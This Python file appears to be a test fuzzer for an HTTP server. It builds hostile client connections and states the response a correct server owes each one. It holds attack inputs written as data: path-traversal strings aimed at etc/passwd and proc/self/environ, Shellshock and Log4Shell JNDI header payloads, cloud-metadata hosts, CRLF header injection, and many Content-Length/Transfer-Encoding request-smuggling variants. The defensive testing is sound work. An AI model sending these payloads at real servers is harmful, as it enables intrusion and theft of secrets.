"""What a hostile client says on one connection: requests right and wrong, and for each what an honest server must do.

Pure: a saying follows from the chance that it is made with.
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import Enum
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import random
    from collections.abc import Sequence

MOST_PIPELINED = 12
_LAST = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
HEADER_BYTES = 16 * 1024


class Due(Enum):
    """What must come for a request, where the connection is still open."""

    ANSWER = "an answer"
    END = "a refusal, and the end of the connection"
    ANYTHING = "anything that is HTTP, or the end"


@dataclass(frozen=True, slots=True)
class Request:
    """One request as it goes out."""

    raw: bytes
    due: Due
    path: str = ""
    """Of a request without mistakes."""
    is_head: bool = False
    kind: str = "plain"


class Ending(Enum):
    """How a client ends what it says."""

    ASKS_FOR_IT = "its last request asks for the end"
    LEAVES = "it is gone in the middle"
    FALLS_SILENT = "it begins a request, and never goes on"


@dataclass(frozen=True, slots=True)
class Saying:
    """Everything that is sent on one connection, and how."""

    requests: tuple[Request, ...]
    cuts: tuple[int, ...]
    """Where the bytes are cut into portions."""
    ending: Ending

    @property
    def raw(self) -> bytes:
        return b"".join(request.raw for request in self.requests)

    @property
    def goes_on_behind_its_end(self) -> bool:
        """Whether it says more behind a request that ends the connection by itself: that may reset it."""
        before = b"".join(request.raw for request in self.requests[:-1])
        return b"HTTP/1.0" in before or b"Connection: close" in before


class Hostile:
    """Makes sayings about these paths; `smuggled` is one that is only ever asked for inside of something else."""

    def __init__(self, chance: random.Random, *, paths: Sequence[str], smuggled: str, hidden: Sequence[str]) -> None:
        self._chance = chance
        self._paths = paths
        self._smuggled = _head("GET", smuggled, "localhost").encode()
        self._hidden = hidden

    def saying(self) -> Saying:
        """Make the next one."""
        chance = self._chance
        requests = [self._sound() for _ in range(chance.choice((0, 1, 1, 2, 3, 5, MOST_PIPELINED)))]
        ending = chance.choices(tuple(Ending), (94, 5, 1))[0]
        if ending is Ending.FALLS_SILENT:
            begun = self._mutable()
            requests.append(Request(bytes(begun[: chance.randrange(1, len(begun) - 4)]), Due.END, kind="silent"))
        else:
            last = chance.choice(
                (self._sound, self._broken, self._broken, self._smuggling, self._mutated, self._flood)
            )()
            # behind what ends the connection nothing may be answered
            behind = self._smuggled if last.due is Due.END else _LAST
            requests += [last, Request(behind, Due.ANSWER if last.due is Due.ANSWER else Due.ANYTHING, kind="the last")]
        total = sum(len(request.raw) for request in requests)
        cuts = sorted(chance.randrange(total) for _ in range(chance.choice((0, 0, 0, 1, 4))))
        return Saying(tuple(requests), tuple(cuts), ending)

    # --- without mistakes ------------------------------------------------------------------------

    def _sound(self) -> Request:
        chance = self._chance
        method = chance.choice(
            ("GET",) * 24 + ("HEAD",) * 8 + ("POST", "PUT", "DELETE", "OPTIONS", "TRACE", "BREW", "get")
        )
        path = chance.choice((self._known, self._known, self._odd_path, self._leading_out, self._odd_query))()
        host = self._host()
        fields = [self._field() for _ in range(chance.choice((0, 0, 1, 1, 2, 3, 8)))]
        fields = [*{("length" if "Length" in each else each): each for each in fields}.values()]  # twice is a mistake
        if chance.random() < 0.1:
            path = f"http://{host}{path}" if path.startswith("/") else path
        raw = _head(method, path, host, *fields, version=chance.choice(("1.1",) * 9 + ("1.0",)))
        return Request(raw.encode("latin-1"), Due.ANSWER, path, is_head=method == "HEAD")

    def _known(self) -> str:
        return self._chance.choice(self._paths)

    def _odd_path(self) -> str:
        chance = self._chance
        path = list(self._known())
        for _ in range(chance.randint(1, 4)):
            at = chance.randrange(1, len(path) + 1)
            path.insert(
                at,
                chance.choice(("%00", "%0d%0a", "%2f", "%2e", "//", ";", "%", "%zz", "%ff", "~", "+", "\\", "%1b[31m")),
            )
        return "".join(path)

    def _leading_out(self) -> str:
        chance = self._chance
        up = chance.choice(
            ("../", "..%2f", "%2e%2e/", "%252e%252e%252f", "..%5c", "..;/", "%c0%ae%c0%ae/", "..%00/", "....//")
        )
        start = chance.choice(
            ("/artifacts/", "/", "/artifacts/app/", "/blobs/sha256/", "/api/v1/", "//", "/artifacts//")
        )
        return start + up * chance.randint(0, 8) + chance.choice((*self._hidden, "etc/passwd", "proc/self/environ"))

    def _odd_query(self) -> str:
        chance = self._chance
        query = chance.choice(
            (
                "checksum=x",
                "terraform-get=1",
                "&&==",
                "%00",
                "?" * 40,
                "prefix=%ff",
                "prefix=a&prefix=b",
                "after=%0a",
                f"prefix={'a' * chance.randint(0, 1200)}",
                f"after=app/app-{chance.randint(0, 99)}",
                "prefix=app/&after=zzz",
            )
        )
        return f"{chance.choice((self._known(), '/api/v1/targets', '/api/v1/status'))}?{query}"

    def _host(self) -> str:
        return self._chance.choice(
            ("localhost",) * 80
            + (
                "127.0.0.1",
                "[::1]:4650",
                "localhost:1",
                "LOCALHOST.",
                "evil.example",
                "169.254.169.254",
                "metadata.internal",
                "localhost.evil.example",
                "0",
                "::1",
                "a_b",
                "-",
                "localhost:99999",
                "xn--nxasmq6b",
            )
        )

    def _field(self) -> str:
        chance = self._chance
        return chance.choice((self._range, self._range, self._condition, self._encoding, self._noise))()

    def _range(self) -> str:
        chance = self._chance
        edge = (0, 1, 2, 99, 65535, 65536, 99_999, 100_000, 100_001, 2**31, 2**32, 2**63, 2**64, 10**40)
        first, last = chance.choice(edge), chance.choice(edge)
        return "Range: " + chance.choice(
            (
                f"bytes={first}-{last}",
                f"bytes={first}-",
                f"bytes=-{last}",
                f"bytes={first}-{last},{last}-{first}",
                "bytes=" + ",".join(["0-0"] * chance.randint(2, 900)),
                "bytes=-",
                "bytes=--1",
                f"bytes=+{first}-{last}",
                f"bytes= {first} - {last}",
                "items=0-5",
                "bytes=0x0-0xf",
                "bytes=\u00b2-\u00b3",
                f"bytes=-{first}-{last}",
                f"BYTES={first}-{last}",
                "bytes=0-0" + "0" * chance.randint(0, 3000),
            )
        )

    def _condition(self) -> str:
        chance = self._chance
        name = chance.choice(("If-Match", "If-None-Match", "If-Range", "If-Modified-Since", "If-Unmodified-Since"))
        value = chance.choice(
            (
                "*",
                '""',
                'W/"x"',
                '"x", "y"',
                "x",
                '"' * 9,
                "Sun, 06 Nov 1994 08:49:37 GMT",
                "Sun, 06 Nov 999999 08:49:37 GMT",
                "Thu, 01 Jan 1970 00:00:00 +9999",
                "0",
                "-1",
                "W/" * 500,
            )
        )
        return f"{name}: {value}"

    def _encoding(self) -> str:
        return self._chance.choice(
            (
                "Accept-Encoding: gzip, br;q=1.0, *;q=0",
                "Accept-Encoding: " + "gzip," * 300,
                "TE: trailers, chunked",
                "Accept: text/html;q=9",
                "Connection: keep-alive",
                "Connection: close",
                "Connection: Host, Range",
                "Content-Length: 0",
                "Upgrade: h2c",
                "Expect: 100-continue",
                "Accept-Charset: utf-7",
            )
        )

    def _noise(self) -> str:
        chance = self._chance
        return chance.choice(
            (
                "X-Forwarded-For: 127.0.0.1",
                "X-Original-URL: /etc/passwd",
                "User-Agent: \xff\xfe() { :;}; ${jndi:ldap://x}",
                "Via: 1.1 waystation-x, " * chance.randint(1, 20),
                "Cookie: " + "a" * chance.randint(0, 2000),
                "Authorization: Basic AAAA",
                'Forwarded: for="_x"',
                "X-Empty:",
                "!#$%&'*+.^_`|~: odd",
                "Via: " + "waystation-a " * 12,
            )
        )

    # --- with mistakes ---------------------------------------------------------------------------

    def _broken(self) -> Request:
        chance = self._chance
        path = self._known()
        raw = chance.choice(
            (
                lambda: f"GET {path} HTTP/1.1\r\n\r\n",
                lambda: f"GET {path}\r\n\r\n",
                lambda: f"GET {path} HTTP/2.0\r\nHost: a\r\n\r\n",
                lambda: f"GET {path} HTTP/1.2\r\nHost: localhost\r\n\r\n",
                lambda: f"GET  {path} HTTP/1.1\r\nHost: localhost\r\n\r\n",
                lambda: f"GET {path} http/1.1\r\nHost: localhost\r\n\r\n",
                lambda: f"GET\t{path}\tHTTP/1.1\r\nHost: localhost\r\n\r\n",
                lambda: _head("GET", path, "localhost", "Host: localhost"),
                lambda: _head("GET", path, "localhost", "No colon"),
                lambda: _head("GET", path, "localhost", " folded: yes"),
                lambda: _head("GET", path, "localhost", "Spaced : x"),
                lambda: _head("GET", path, "localhost", "X: a\x00b"),
                lambda: _head("GET", path, "localhost", "X: a\rb"),
                lambda: _head("GET", path, "localhost", "X: a\nGET / HTTP/1.1"),
                lambda: _head("GET", path, "localhost", "X\x7f: 1"),
                lambda: _head("GET", f"{path} /x", "localhost"),
                lambda: _head("GET", f"{path}\x80", "localhost"),
                lambda: _head("G\x01T", path, "localhost"),
                lambda: "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
                lambda: "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
                lambda: "\x00" * 64 + "\r\n\r\n",
                lambda: "{}\r\n\r\n",
            )
        )()
        return Request(raw.encode("latin-1"), Due.END, kind="broken")

    def _smuggling(self) -> Request:
        """A second request where a body would be, in all the ways in which servers were ever led astray."""
        chance, length = self._chance, len(self._smuggled)
        fields = chance.choice(
            (
                (f"Content-Length: {length}",),
                ("Transfer-Encoding: chunked",),
                (f"Content-Length: {length}", "Transfer-Encoding: chunked"),
                ("Transfer-Encoding: chunked", "Content-Length: 6"),
                ("Transfer-Encoding: xchunked",),
                ("Transfer-Encoding : chunked",),
                ("Transfer-Encoding:\tchunked",),
                ("Transfer-Encoding: identity, chunked",),
                ("transfer-encoding: CHUNKED",),
                ("Transfer-Encoding: chunked", "Transfer-Encoding: identity"),
                (f"Content-Length: 0, {length}",),
                (f"Content-Length: +{length}",),
                (f"Content-Length: {length}", f"Content-Length: {length + 1}"),
                (f"Content-Length: 0x{length:x}",),
                (f"Content-Length: {length} ",),
                (f"Content-Length: {'0' * 30}{length}",),
                ("Content-Length: -1",),
                ("Transfer-Encoding: \x0bchunked",),
                ("X: y", f"Content-Length: {10**30}"),
                ("Expect: 100-continue", f"Content-Length: {length}"),
                ("Transfer-Encoding:", f"Content-Length: {length}"),
            )
        )
        method = chance.choice(("GET", "GET", "POST", "HEAD", "PUT"))
        body = chance.choice((b"", b"0\r\n\r\n", b"1\r\nx\r\n0\r\n\r\n", b"0;a=b\r\nX: y\r\n\r\n")) + self._smuggled
        raw = _head(method, self._known(), "localhost", *fields).encode("latin-1")
        return Request(raw + body, Due.END, is_head=method == "HEAD", kind="smuggling")

    def _flood(self) -> Request:
        """More headers, or longer ones, than are taken."""
        chance, more = self._chance, HEADER_BYTES + self._chance.randint(1, 20_000)
        start = f"GET {self._known()} HTTP/1.1\r\nHost: localhost\r\n"
        raw = chance.choice(
            (
                lambda: start + f"X: {'a' * more}\r\n\r\n",
                lambda: start + "A: b\r\n" * (more // 6 + 1) + "\r\n",
                lambda: f"GET /{'a' * more} HTTP/1.1\r\nHost: localhost\r\n\r\n",
                lambda: "G" * more,
                lambda: start + "X" * more,
            )
        )()
        return Request(raw.encode("latin-1"), Due.END, kind="flood")

    def _mutable(self) -> bytearray:
        return bytearray(_head("GET", self._known(), "localhost", self._field()).encode("latin-1"))

    def _mutated(self) -> Request:
        """A request with some bytes changed, lost or more, or cut off: what it is then is anyone's guess."""
        chance = self._chance
        raw = self._mutable()
        for _ in range(chance.randint(1, 4)):
            at = chance.randrange(len(raw))
            match chance.randrange(4):
                case 0:
                    raw[at] = chance.randrange(256)
                case 1:
                    del raw[at]
                case 2:
                    raw[at:at] = chance.randbytes(chance.choice((1, 1, 8, 300)))
                case _:
                    raw[at:at] = chance.choice((b"\r\n", b"\n", b"\r", b" ", b"\t", b":", b"\r\n\r\n", b"\x00"))
        if chance.random() < 0.3:
            del raw[chance.randrange(len(raw)) :]
        return Request(bytes(raw), Due.ANYTHING, kind="mutated")


def _head(method: str, path: str, host: str, *fields: str, version: str = "1.1") -> str:
    return "\r\n".join([f"{method} {path} HTTP/{version}", f"Host: {host}", *fields, "", ""])
